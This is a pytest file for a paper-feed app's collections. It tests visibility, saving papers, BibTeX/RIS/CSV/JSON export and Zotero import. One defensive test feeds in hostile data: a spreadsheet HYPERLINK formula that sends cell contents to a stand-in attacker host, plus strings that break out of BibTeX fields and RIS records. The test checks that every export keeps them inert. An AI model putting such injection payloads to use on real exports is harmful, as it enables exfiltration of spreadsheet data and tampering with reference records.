"""Collections as a library, on SQLite and PostgreSQL: visibility, saving papers,
export read back by bibtexparser and rispy, import of a Zotero export."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import bibtexparser
import pytest
import rispy

from paperfeed import collections as lists
from paperfeed.accounts import RateLimitedError
from paperfeed.collections import (
    CollectionError,
    CollectionNotFoundError,
    NotYourCollectionError,
)
from paperfeed.collections.exporting import (
    ExportError,
    citation_keys,
    export_papers,
    to_bibtex,
)
from paperfeed.collections.importing import (
    IMPORT_RATE_LIMIT,
    ImportFileError,
    import_references,
)
from paperfeed.models import Paper
from paperfeed.store import Store
from paperfeed.store.accounts import User, insert_user
from paperfeed.store.loading import ingest_sources

FIXTURES = Path(__file__).resolve().parent / "fixtures"
ZOTERO_BIB = FIXTURES / "zotero_export.bib"
ZOTERO_RIS = FIXTURES / "zotero_export.ris"
JOURNAL_DOI = "10.1038/s41467-026-01234-5"


@pytest.fixture
def store(database_url: str) -> Store:
    store = Store(database_url)
    ingest_sources(
        store, [FIXTURES / "site_daily_papers.jsonl"], "daily-papers-flat", show_progress=False
    )
    store.upsert_papers(
        [
            Paper(
                "2603.01234",
                "Catalysts & {braces}: 50% of $x_1$ #1",
                "An abstract with a_b and 100% & more.",
                ["Ada Lovelace", "Research and Development Team"],
                categories=["cs.LG", "stat.ML"],
                published="2026-03-02",
                doi=JOURNAL_DOI,
                journal_ref="Nature Communications 12, 1234 (2026)",
            ),
            # same first author, year and first word: their keys need a suffix
            Paper("2603.05555", "Catalysts again", "A.", ["Ada Lovelace"], published="2026-03-09"),
        ]
    )
    return store


def _user(store: Store, name: str) -> User:
    return insert_user(store, f"{name}@example.org", name, "not-a-real-hash")


def test_private_collections_do_not_exist_for_others(store: Store) -> None:
    ada, bob = _user(store, "ada"), _user(store, "bob")
    private = lists.create_collection(store, ada, "  Reading   group ", "Weekly", False)
    public = lists.create_collection(store, ada, "Shared", is_public=True)
    assert private.name == "Reading group" and not private.is_public and private.owner == "ada"
    assert lists.visible_collection(store, private.id, ada) == private
    for viewer in (bob, None):
        with pytest.raises(CollectionNotFoundError, match=f"no collection {private.id}"):
            lists.visible_collection(store, private.id, viewer)
    assert lists.visible_collection(store, public.id, None).name == "Shared"
    # bob can read the public one but not change it; the private one stays not found
    with pytest.raises(NotYourCollectionError, match="belongs to another user"):
        lists.add_paper(store, bob, public.id, "2608.19880")
    with pytest.raises(CollectionNotFoundError):
        lists.add_paper(store, bob, private.id, "2608.19880")
    with pytest.raises(NotYourCollectionError):
        lists.delete_collection(store, bob, public.id)
    with pytest.raises(NotYourCollectionError):
        import_references(store, bob, public.id, ZOTERO_BIB.read_bytes())
    assert lists.visible_collection(store, public.id, None).paper_count == 0


def test_save_and_remove_papers(store: Store) -> None:
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Reading")
    assert lists.add_paper(store, ada, reading.id, "2608.19880")
    assert lists.add_paper(store, ada, reading.id, "https://arxiv.org/abs/2608.10615v3")
    assert not lists.add_paper(store, ada, reading.id, "2608.19880")  # already there
    papers = lists.collection_papers(store, lists.visible_collection(store, reading.id, ada))
    assert {paper.arxiv_id for paper, _ in papers} == {"2608.19880", "2608.10615"}
    assert lists.memberships(store, ada) == {reading.id: {paper.key for paper, _ in papers}}
    with pytest.raises(CollectionNotFoundError, match="no paper 2609.99999"):
        lists.add_paper(store, ada, reading.id, "2609.99999")
    with pytest.raises(CollectionError, match="not an arXiv id"):
        lists.add_paper(store, ada, reading.id, "<script>")
    assert lists.remove_paper(store, ada, reading.id, "2608.19880")
    assert not lists.remove_paper(store, ada, reading.id, "2608.19880")
    assert lists.visible_collection(store, reading.id, ada).paper_count == 1
    changed = lists.update_collection(store, ada, reading.id, name="Renamed", is_public=True)
    assert (changed.name, changed.is_public) == ("Renamed", True)
    lists.delete_collection(store, ada, reading.id)
    with pytest.raises(CollectionNotFoundError):
        lists.visible_collection(store, reading.id, ada)
    # the papers stay; ids of deleted collections are never handed out again
    assert store.get_paper("2608.10615") is not None
    assert lists.create_collection(store, ada, "Next").id > reading.id


@pytest.mark.parametrize(
    ("name", "description", "is_public", "message"),
    [
        ("", "", False, "name is empty"),
        ("x" * 201, "", False, "201 characters long"),
        (None, "", False, "name must be text"),
        ("ok", "y" * 2001, False, "2001 characters"),
        ("ok", "", "yes", "is_public must be true or false"),
    ],
)
def test_bad_collection_input(
    store: Store, name: object, description: object, is_public: object, message: str
) -> None:
    ada = _user(store, "ada")
    with pytest.raises(CollectionError, match=message):
        lists.create_collection(store, ada, name, description, is_public)
    assert lists.collections_of(store, ada) == []


def _export(store: Store, user: User, ids: list[str], name: str) -> str:
    collection = lists.create_collection(store, user, "Export me")
    for arxiv_id in ids:
        lists.add_paper(store, user, collection.id, arxiv_id)
    collection = lists.visible_collection(store, collection.id, user)
    text, _ = export_papers(collection, lists.collection_papers(store, collection), name)
    return text


def test_bibtex_export_reads_back_field_by_field(store: Store) -> None:
    ada = _user(store, "ada")
    ids = ["2608.19880", "2603.01234", "2603.05555"]
    text = _export(store, ada, ids, "bibtex")
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    entries = {entry["eprint"]: entry for entry in library.entries}
    assert sorted(entries) == sorted(ids)  # one entry per paper

    env = entries["2608.19880"]
    assert env.entry_type == "misc" and env.key == "huang2026envharness"
    assert env["title"] == "EnvHarness: Awakening Static Worlds for Agent Learning"
    stored = store.get_paper("2608.19880")
    assert stored is not None
    assert env["author"] == " and ".join(stored.authors)
    assert (env["year"], env["archivePrefix"]) == ("2026", "arXiv")
    assert env["url"] == "https://arxiv.org/abs/2608.19880"
    assert "doi" not in env.fields_dict and "journal" not in env.fields_dict

    journal = entries["2603.01234"]
    assert journal.entry_type == "article"
    # the store renders the LaTeX; BibTeX's special characters are escaped
    assert journal["title"] == r"Catalysts \& braces: 50\% of x\_1 \#1"
    # a corporate author keeps its "and" inside braces: still two authors for BibTeX
    assert journal["author"] == "Ada Lovelace and {Research and Development Team}"
    assert journal["journal"] == "Nature Communications 12, 1234 (2026)"
    assert journal["doi"] == JOURNAL_DOI
    assert (journal["primaryClass"], journal["year"]) == ("cs.LG", "2026")
    assert journal["abstract"] == r"An abstract with a\_b and 100\% \& more."
    # stable keys: the clash is resolved in arXiv-id order, the same on every export
    assert {journal.key, entries["2603.05555"].key} == {
        "lovelace2026catalystsa",
        "lovelace2026catalystsb",
    }
    assert journal.key == "lovelace2026catalystsa"
    assert _export(store, ada, list(reversed(ids)), "bibtex").count("@") == 3
    papers = [store.get_paper(arxiv_id) for arxiv_id in ids]
    assert citation_keys([p for p in papers if p]) == citation_keys(
        [p for p in reversed(papers) if p]
    )


def test_bibtex_text_reads_back_as_written_and_keys_fold_accents(store: Store) -> None:
    """A bare "~" is a no-break space to LaTeX and "^" a superscript outside math: both
    are written so that a LaTeX decoder (bibtexparser's) gives the text back. A key's
    accented letters are folded, not dropped ("Thérien" -> "therien", not "thrien")."""
    from bibtexparser.middlewares import LatexDecodingMiddleware

    title = "Around ~9 visual tokens at 256^2 & more"
    store.upsert_papers(
        [
            Paper("2405.17430", title, "Costs ~9 tokens.", ["Xing Han Lù"], published="2024-05-27"),
            Paper("2406.00001", "Über alles", "x", ["Benjamin Thérien"], published="2024-06-01"),
            Paper("2406.00002", "Łódź", "x", ["Łukasz Kaiser"], published="2024-06-01"),
            Paper("2406.00003", "x", "x", ["Đorđe Marjanović"], published="2024-06-02"),
        ]
    )
    ada = _user(store, "ada")
    ids = ["2405.17430", "2406.00001", "2406.00002", "2406.00003"]
    text = _export(store, ada, ids, "bibtex")
    assert r"256\textasciicircum{}2" in text  # LaTeX's own name for the character
    library = bibtexparser.parse_string(text, append_middleware=[LatexDecodingMiddleware()])
    assert library.failed_blocks == []
    entries = {entry["eprint"]: entry for entry in library.entries}
    # (pylatexenc decodes \textasciicircum as U+02C6, the modifier letter circumflex)
    assert entries["2405.17430"]["title"].replace("\u02c6", "^") == title
    assert entries["2405.17430"]["abstract"] == "Costs ~9 tokens."
    assert [entries[arxiv_id].key for arxiv_id in ids] == [
        "lu2024around",
        "therien2024uber",
        "kaiser2024lodz",
        "marjanovic2024x",
    ]


def test_an_exported_title_matches_back_without_its_eprint(store: Store) -> None:
    """An entry of our export whose e-print fields a reference manager dropped is found by
    its title: LaTeX's names for "^" and "~" (which the export writes) are the characters
    again, where "Consistency\\textasciicircum{}2" used to match nothing."""
    title = "Consistency^2: Around ~9 tokens, 256^2 pixels"
    store.upsert_papers([Paper("2406.11202", title, "x", ["Tianhao Wang"], published="2024-06-17")])
    ada = _user(store, "ada")
    text = _export(store, ada, ["2406.11202"], "bibtex")
    assert r"\textasciicircum{}" in text and r"\textasciitilde{}" in text
    dropped = ("eprint", "archivePrefix", "url", "doi", "primaryClass")
    edited = "\n".join(line for line in text.splitlines() if not line.strip().startswith(dropped))
    assert "2406.11202" not in edited
    target = lists.create_collection(store, ada, "From my reference manager")
    report = import_references(store, ada, target.id, edited)
    assert dict(report.added) == {"wang2024consistency": "2406.11202"}, report.unmatched


def test_hostile_paper_data_stays_data_in_every_export(store: Store) -> None:
    """A title a spreadsheet would run as a formula, a category that closes its BibTeX
    field and opens another, and one that ends its RIS record: each stays one value."""
    store.upsert_papers(
        [
            Paper(
                "2604.00001",
                '=HYPERLINK("http://evil.example/?"&A1, "Click")',
                "An abstract.",
                ["@Mallory", "-Eve"],
                categories=["cs.LG}, note = {INJECTED-BIB}, x = {", "cs.AI\nER  - \nTY  - JOUR"],
                published="2026-04-01",
            )
        ]
    )
    ada = _user(store, "ada")
    rows = list(csv.reader(io.StringIO(_export(store, ada, ["2604.00001"], "csv"))))
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1, "Click")'
    assert rows[1][2] == "'@Mallory; -Eve"
    [entry] = bibtexparser.parse_string(_export(store, ada, ["2604.00001"], "bibtex")).entries
    assert "note" not in entry.fields_dict and "x" not in entry.fields_dict
    assert "INJECTED-BIB" in entry["primaryClass"]
    [record] = rispy.loads(_export(store, ada, ["2604.00001"], "ris"))
    assert record["keywords"][1] == "cs.AI ER - TY - JOUR"


def test_ris_csv_and_json_exports(store: Store) -> None:
    ada = _user(store, "ada")
    ids = ["2608.19880", "2603.01234"]
    ris = _export(store, ada, ids, "ris")
    assert ris.startswith("TY  - ") and ris.rstrip().endswith("ER  -")
    records = {record["notes"][0]: record for record in rispy.loads(ris)}
    env = records["arXiv:2608.19880"]
    assert env["type_of_reference"] == "UNPB"
    assert env["title"] == "EnvHarness: Awakening Static Worlds for Agent Learning"
    assert env["authors"][:2] == ["Chengsong Huang", "Zifeng Wang"]
    assert env["urls"] == ["https://arxiv.org/abs/2608.19880"] and env["year"] == "2026"
    journal = records["arXiv:2603.01234"]
    assert journal["type_of_reference"] == "JOUR" and journal["doi"] == JOURNAL_DOI
    assert journal["title"] == "Catalysts & braces: 50% of x_1 #1"
    assert journal["date"] == "2026/03/02/" and journal["keywords"] == ["cs.LG", "stat.ML"]

    rows = list(csv.DictReader(io.StringIO(_export(store, ada, ids, "csv"))))
    assert {row["arxiv_id"] for row in rows} == set(ids)
    assert {row["doi"] for row in rows} == {"", JOURNAL_DOI}

    document = json.loads(_export(store, ada, ids, "json"))
    assert document["name"] == "Export me" and document["paper_count"] == 2
    assert {paper["id"] for paper in document["papers"]} == set(ids)

    with pytest.raises(ExportError, match="unknown export format 'docx'"):
        _export(store, ada, ids, "docx")


def test_paper_page_bibtex_is_the_export_entry(store: Store) -> None:
    paper = store.get_paper("2608.19880")
    assert paper is not None
    entry = bibtexparser.parse_string(to_bibtex([paper])).entries[0]
    assert entry.key == "huang2026envharness" and entry["eprint"] == "2608.19880"


def test_import_a_zotero_bibtex_export(store: Store) -> None:
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "From Zotero")
    lists.add_paper(store, ada, reading.id, "2608.08888")
    report = import_references(store, ada, reading.id, ZOTERO_BIB.read_bytes())
    assert report.format == "bibtex" and report.total == 7  # every entry is accounted for
    assert dict(report.added) == {
        "huang_envharness_2026": "2608.19880",  # url, arXiv DOI and note
        "sakurai_simplex_2026": "2608.10615",  # eprint + archiveprefix
        "proskurina_are_2026": "2608.13430",  # title only, braces and case folded
        "lovelace_journal_2026": "2603.01234",  # a journal DOI
    }
    assert dict(report.already) == {"wang_fullbandwidth_2026": "2608.08888"}  # journal field
    unmatched = dict(report.unmatched)
    assert set(unmatched) == {"vaswani_attention_2023", "hastie_elements_2009"}
    assert unmatched["vaswani_attention_2023"] == "arXiv paper 1706.03762 is not stored here"
    assert "no arXiv id or DOI" in unmatched["hastie_elements_2009"]
    collection = lists.visible_collection(store, reading.id, ada)
    assert collection.paper_count == 5
    # importing again adds nothing and still lists every entry
    again = import_references(store, ada, reading.id, ZOTERO_BIB.read_text())
    assert (len(again.added), len(again.already), len(again.unmatched)) == (0, 5, 2)


def test_import_a_zotero_ris_export(store: Store) -> None:
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "From RIS")
    report = import_references(store, ada, reading.id, ZOTERO_RIS.read_bytes())
    assert report.format == "ris"
    assert sorted(arxiv_id for _, arxiv_id in report.added) == ["2608.08888", "2608.19880"]
    assert [label for label, _ in report.unmatched] == ["The Elements of Statistical Learning"]


def test_an_exported_collection_imports_back(store: Store) -> None:
    ada = _user(store, "ada")
    text = _export(store, ada, ["2608.19880", "2603.01234", "2603.05555"], "bibtex")
    target = lists.create_collection(store, ada, "Round trip")
    report = import_references(store, ada, target.id, text.encode())
    assert len(report.added) == 3 and report.unmatched == []
    ris = _export(store, ada, ["2608.19880", "2603.05555"], "ris")
    again = lists.create_collection(store, ada, "Round trip RIS")
    assert len(import_references(store, ada, again.id, ris).added) == 2


@pytest.mark.parametrize(
    ("content", "format", "message"),
    [
        (b"Dear reviewer,\nplease find attached our paper.\n", "auto", "no BibTeX entries"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "auto", "not UTF-8|binary"),
        (b"\xff\xfe\x00n\x00o", "auto", "not UTF-8"),
        (b"@article{broken,\n  title = {never closed\n", "auto", "no BibTeX entries.*line"),
        (ZOTERO_BIB.read_bytes(), "ris", "no RIS entries"),
        (b"TY  - JOUR\nTI  - x\nER  - \n", "bibtex", "no BibTeX entries"),
        (b"@misc{a, title={b}}", "endnote", "unknown import format 'endnote'"),
        (b"%" * (5 * 1024 * 1024 + 1), "auto", "at most 5,242,880"),
    ],
)
def test_bad_import_files_are_refused_and_nothing_is_added(
    store: Store, content: bytes, format: str, message: str
) -> None:
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Careful")
    with pytest.raises(ImportFileError, match=message):
        import_references(store, ada, reading.id, content, format)
    assert lists.visible_collection(store, reading.id, ada).paper_count == 0


def test_other_managers_ways_of_naming_the_arxiv_id(store: Store) -> None:
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Mendeley and friends")
    text = r"""
@article{Huang2026,
  archivePrefix = {arXiv},
  arxivId = {2608.19880},
  author = {Huang, Chengsong},
  title = {{EnvHarness}},
  year = {2026}
}
@online{sakurai,
  eprint = {arXiv:2608.10615v1},
  eprinttype = {arxiv},
  eprintclass = {cs.LG},
  title = {Simplex relaxation}
}
@misc{pubmed, eprint = {2608.08888}, eprinttype = {pubmed}, title = {Not an arXiv id}}
@misc{howpublished, howpublished = {\url{https://arxiv.org/pdf/2608.13430v2.pdf}}}
"""
    report = import_references(store, ada, reading.id, text)
    assert dict(report.added) == {
        "Huang2026": "2608.19880",
        "sakurai": "2608.10615",
        "howpublished": "2608.13430",
    }
    assert [label for label, _ in report.unmatched] == ["pubmed"]


def test_a_broken_entry_among_good_ones_is_listed_not_dropped(store: Store) -> None:
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Mixed")
    text = "@misc{good, eprint = {2608.19880}, archivePrefix = {arXiv}}\n@misc{bad, title = {x\n"
    report = import_references(store, ada, reading.id, text)
    assert dict(report.added) == {"good": "2608.19880"}
    assert len(report.unmatched) == 1 and "not valid BibTeX" in report.unmatched[0][1]


@pytest.mark.parametrize(
    ("broken", "reason"),
    [
        ("@misc{bad, title = {x\n", "Unexpectedly reached end of file"),
        ("@misc{bad title = {x}}\n", "Expected comma after entry key"),
    ],
)
def test_a_broken_entry_says_what_is_wrong_with_it(store: Store, broken: str, reason: str) -> None:
    """The reason names bibtexparser's finding: its exception has no message of its own,
    so the reason used to end in an empty "at line 2: "."""
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Mixed")
    text = "@misc{good, eprint = {2608.19880}, archivePrefix = {arXiv}}\n" + broken
    report = import_references(store, ada, reading.id, text)
    [(_, said)] = report.unmatched
    assert said.startswith("not valid BibTeX at line 2: ") and reason in said, said


def test_a_key_used_twice_still_imports_its_entry(store: Store) -> None:
    """Files merged from two libraries reuse keys: bibtexparser sets the second entry
    aside, and it used to come back as "not valid BibTeX: Duplicate entry key"."""
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Merged")
    text = (
        "@misc{smith2026, eprint = {2608.19880}, archivePrefix = {arXiv}}\n"
        '@article{smith2026, title = "Simplex Relaxation for Discrete Diffusion", year = 2026}\n'
        "@misc{smith2026, title = {A Paper Nobody Stored}}\n"
    )
    report = import_references(store, ada, reading.id, text)
    assert report.added == [("smith2026", "2608.19880"), ("smith2026", "2608.10615")]
    assert report.unmatched == [
        ("smith2026", "no arXiv id or DOI, and no stored paper has this title")
    ]


def test_a_ris_file_cut_before_its_last_er_line_is_read(store: Store) -> None:
    """A RIS file missing its final ``ER  -`` (cut short, or hand-edited) was refused
    whole as holding "no RIS entries"."""
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Cut")
    text = (
        "TY  - UNPB\r\nTI  - One\r\nUR  - https://arxiv.org/abs/2608.19880\r\nER  - \r\n\r\n"
        "TY  - UNPB\r\nTI  - Two\r\nDO  - 10.48550/arXiv.2608.10615\r\n"
    )
    report = import_references(store, ada, reading.id, text)
    assert report.format == "ris"
    assert report.added == [("One", "2608.19880"), ("Two", "2608.10615")]


def test_imports_are_rate_limited_per_user(store: Store) -> None:
    ada, bob = _user(store, "ada"), _user(store, "bob")
    mine = lists.create_collection(store, ada, "Mine")
    entry = "@misc{good, eprint = {2608.19880}, archivePrefix = {arXiv}}"
    for _ in range(IMPORT_RATE_LIMIT[0]):
        import_references(store, ada, mine.id, entry)
    with pytest.raises(RateLimitedError):
        import_references(store, ada, mine.id, entry)
    theirs = lists.create_collection(store, bob, "Theirs")
    assert len(import_references(store, bob, theirs.id, entry).added) == 1


def test_withdrawn_papers_stay_saved_but_are_not_added(store: Store) -> None:
    from paperfeed.store import schema

    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Reading")
    lists.add_paper(store, ada, reading.id, "2608.19880")
    with store.engine.begin() as connection:
        connection.execute(
            schema.papers.update()
            .where(schema.papers.c.arxiv_id.in_(["2608.19880", "2608.10615"]))
            .values(withdrawn_on="2026-09-01")
        )
    # already saved: kept, and adding it again changes nothing
    assert not lists.add_paper(store, ada, reading.id, "2608.19880")
    with pytest.raises(lists.PaperWithdrawnError, match="2608.10615 was withdrawn"):
        lists.add_paper(store, ada, reading.id, "2608.10615")
    collection = lists.visible_collection(store, reading.id, ada)
    assert collection.paper_count == 1
    text, _ = export_papers(collection, lists.collection_papers(store, collection), "bibtex")
    assert "eprint = {2608.19880}" in text
    report = import_references(store, ada, reading.id, ZOTERO_BIB.read_bytes())
    unmatched = dict(report.unmatched)
    assert "withdrawn from arXiv" in unmatched["sakurai_simplex_2026"]
    assert dict(report.already)["huang_envharness_2026"] == "2608.19880"
    assert lists.visible_collection(store, reading.id, ada).paper_count == 4


def test_papers_a_moderator_hid_stay_saved_but_are_not_added(store: Store) -> None:
    from paperfeed.administration import Actor
    from paperfeed.moderation import hide_paper

    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "Reading")
    lists.add_paper(store, ada, reading.id, "2608.19880")
    for arxiv_id in ("2608.19880", "2608.10615"):
        hide_paper(store, Actor(None, "test"), arxiv_id, "spam")
    assert not lists.add_paper(store, ada, reading.id, "2608.19880")  # saved before: kept
    # kept on its owner's list, and on no one else's view of it, even made public
    lists.update_collection(store, ada, reading.id, is_public=True)
    public = lists.visible_collection(store, reading.id, None)
    assert [paper.arxiv_id for paper, _ in lists.papers_shown(store, public, ada)] == ["2608.19880"]
    assert lists.papers_shown(store, public, None) == []
    assert lists.papers_shown(store, public, _user(store, "bob")) == []
    with pytest.raises(CollectionNotFoundError, match="2608.10615 was hidden by a moderator"):
        lists.add_paper(store, ada, reading.id, "2608.10615")
    report = import_references(store, ada, reading.id, ZOTERO_BIB.read_bytes())
    assert "hidden by a moderator" in dict(report.unmatched)["sakurai_simplex_2026"]
    assert dict(report.already)["huang_envharness_2026"] == "2608.19880"
    assert "2608.10615" not in {arxiv_id for _, arxiv_id in report.added}


def test_a_large_import_finds_papers_past_one_query_s_worth_of_ids(store: Store) -> None:
    """Ids are looked up 900 to a query; a paper named after the first 900 entries, by
    arXiv id or by DOI, is found as one named first is."""
    ada = _user(store, "ada")
    reading = lists.create_collection(store, ada, "A whole library")
    entries = [
        f"@misc{{missing{number}, eprint = {{2501.{number:05d}}}, archivePrefix = {{arXiv}}}}"
        for number in range(1, 1901)
    ]
    entries[0] = "@misc{first, eprint = {2608.19880}, archivePrefix = {arXiv}}"
    entries[950] = "@misc{middle, eprint = {2608.10615}, archivePrefix = {arXiv}}"
    entries[1899] = "@misc{last, eprint = {2608.13430}, archivePrefix = {arXiv}}"
    entries[1200] = f"@article{{journal, doi = {{{JOURNAL_DOI.upper()}}}, title = {{x}}}}"
    report = import_references(store, ada, reading.id, "\n".join(entries))
    assert dict(report.added) == {
        "first": "2608.19880",
        "middle": "2608.10615",
        "journal": "2603.01234",
        "last": "2608.13430",
    }
    assert len(report.unmatched) == 1896
